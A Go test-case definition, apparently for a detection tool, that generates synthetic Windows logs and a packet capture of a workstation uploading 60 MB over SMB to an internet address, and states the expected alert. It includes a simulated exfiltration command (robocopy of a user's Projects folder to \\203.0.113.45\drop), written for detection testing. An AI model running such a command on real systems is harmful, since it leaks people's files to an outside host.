package cases

import (
	"net/netip"
	"time"

	"github.com/wirewitness/wirewitness/samples/generate/wire"
	"github.com/wirewitness/wirewitness/samples/generate/world"
)

var smbInternet = Case{
	Name: "smb-internet",
	Made: "Sysmon and Security logs of WS-05 and a capture on it, in which segments are larger than the network's and bulk is cut. " +
		"Upload: smbclient to Samba.",
	Expect: Expect{
		Statement: `60 MB leave over SMB for 203.0.113.45 on the internet. System (PID 4) owns the socket; robocopy.exe, alive at the time, names \\203.0.113.45\drop.`,
		First: &First{Host: "WS-05", Programs: []string{"robocopy.exe", "System"}, Peer: "203.0.113.45", Port: 445,
			Severity: "high", Families: []string{"port", "volume"}},
	},
	Build: func() []File {
		w := world.New(4)
		h := w.Host("WS-05", "10.20.1.55", `CORP\jdoe`)
		h.Logs = world.Logs{Sysmon: true, Security: true}
		h.Offload = true

		d := logOn(w, h, world.At("15:20:09"))
		d.share(world.At("15:26:53"))
		d.readNews(world.At("15:31:20"))

		shell := h.Explorer.Start(world.At("15:44:02"), h.Windows("cmd.exe", "", "Windows Command Processor"))
		robocopy := shell.Start(world.At("15:44:40"), h.Windows("robocopy.exe", `C:\Users\jdoe\Documents\Projects \\203.0.113.45\drop /E /R:1`, "Microsoft Robocopy"))
		done := h.System.Connect(world.Conn{At: world.At("15:44:41"), To: netip.MustParseAddrPort("203.0.113.45:445"), Talk: one("smb-upload")})
		robocopy.Exit(done.Add(200 * time.Millisecond))
		shell.Exit(done.Add(20 * time.Second))

		d.chat(world.At("15:58:30"))
		return append(eventLogs(h), File{"ws-05.pcap", wire.Pcap(w.Packets())})
	},
}
